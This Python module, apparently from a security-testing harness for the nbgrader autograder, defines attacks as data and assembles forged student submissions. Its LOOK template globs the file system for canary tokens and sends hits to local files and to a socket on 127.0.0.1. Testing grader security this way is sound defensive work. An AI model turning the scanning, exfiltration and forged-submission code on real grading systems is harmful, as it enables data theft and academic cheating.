"""What an attack is (data), and handing one in as a submission."""

import json
from collections.abc import Callable
from dataclasses import dataclass, field

from . import course

LOOK = '''
import os, re, socket, glob
def look(data, way):
    """Shout every canary in `data` into the notebook, the network and the file system, spelt backwards."""
    text = data if isinstance(data, str) else bytes(data).decode("utf-8", "replace")
    for kind, key in sorted(set(re.findall(r"CANARY-([a-z]+)-([0-9a-f]{16})", text))):
        message = f"LEAK {kind} {key[::-1]} {way}"
        print(message)
        for place in ("{{OUTSIDE}}/leak.txt", "leak.txt"):
            try:
                with open(place, "a") as file:
                    file.write(message + "\\\\n")
            except OSError:
                pass
        try:
            with socket.create_connection(("127.0.0.1", {{PORT}}), 1) as wire:
                wire.sendall(message.encode() + b"\\\\n")
        except OSError:
            pass
def look_in(*patterns, limit=20_000_000):
    for pattern in patterns:
        for name in glob.glob(pattern, recursive=True):
            try:
                with open(name, "rb") as file:
                    look(file.read(limit), name)
            except OSError:
                pass
'''.replace("\\\\", "\\")
"""What reading attacks begin with; `{{NAME}}` is filled in by Target.filled."""


@dataclass(frozen=True)
class Attack:
    name: str
    goal: str  # one sentence
    kind: str  # points, reading, harm, others, notebook, wire, choice
    stock: str  # what happens in stock nbgrader 0.9.6, as found by stock.py
    mean: str = course.WRONG_MEAN  # the solution cells' text
    describe: str = course.WRONG_DESCRIBE
    why: str | None = None  # the written answer
    account: str | None = None  # the second notebook's answers; without them it is not handed in
    interest: str = course.RIGHT_INTEREST
    before: tuple = ()  # extra code cells at the top …
    between: tuple = ()  # … between the first solution cell and its test …
    after: tuple = ()  # … and at the end
    edit: Callable | None = None  # (notebook as JSON data) -> None, changes it
    raw: Callable | None = None  # (notebook as JSON data) -> bytes of the file instead
    files: dict = field(default_factory=dict)  # relative path -> text, put beside the notebook
    place: Callable | None = (
        None  # (submission folder, target) -> None, for links and other oddities
    )
    merits: dict = field(
        default_factory=dict
    )  # graded cell -> points deserved; 0 where it is not named
    waits: tuple = ()  # graded cells that may wait for a human
    earlier: "Attack | None" = None  # handed in and graded first
    student: str | None = None  # the student's id, where that is part of the attack
    dangerous: bool = False  # may not be tried without a sandbox
    fenced: bool = False  # may not be tried outside the arena's namespaces
    spoils: bool = False  # the attack may break its own process, so that fewer points than the merits are right too

    @property
    def who(self):
        return self.student or self.name


def hand_in(target, attack, only=None):
    """Write the attacker's submission folder; `only` writes that attack's work under the student of `attack`."""
    work, folder = only or attack, target.folder(attack.who)
    folder.mkdir(parents=True, exist_ok=True)
    for name, text in work.files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(target.filled(text).encode() if isinstance(text, str) else text)
    notebook = notebook_of(target, work)
    if notebook is not None:
        (folder / f"{course.NOTEBOOK}.ipynb").write_bytes(notebook)
    if work.account is not None:
        second = course.answered_second(
            target, target.filled(work.account), target.filled(work.interest)
        )
        (folder / f"{course.SECOND}.ipynb").write_text(json.dumps(second))
    if work.place:
        work.place(folder, target)


def notebook_of(target, attack):
    """The bytes of the notebook handed in (None where `raw` says there is none)."""
    notebook = course.answered(
        target,
        target.filled(attack.mean),
        target.filled(attack.describe),
        attack.why and target.filled(attack.why),
    )
    cells = notebook["cells"]
    at = cells.index(course.by_name(notebook, "mean")) + 1
    cells[at:at] = [
        extra(target, f"between-{number}", text) for number, text in enumerate(attack.between)
    ]
    cells[0:0] = [
        extra(target, f"before-{number}", text) for number, text in enumerate(attack.before)
    ]
    cells += [extra(target, f"after-{number}", text) for number, text in enumerate(attack.after)]
    if attack.edit:
        attack.edit(notebook)
    return (
        attack.raw(notebook)
        if attack.raw
        else target.filled(json.dumps(notebook)).encode("utf-8", "surrogatepass")
    )


def extra(target, name, text):
    return dict(course.cell("code", name, target.filled(text)))
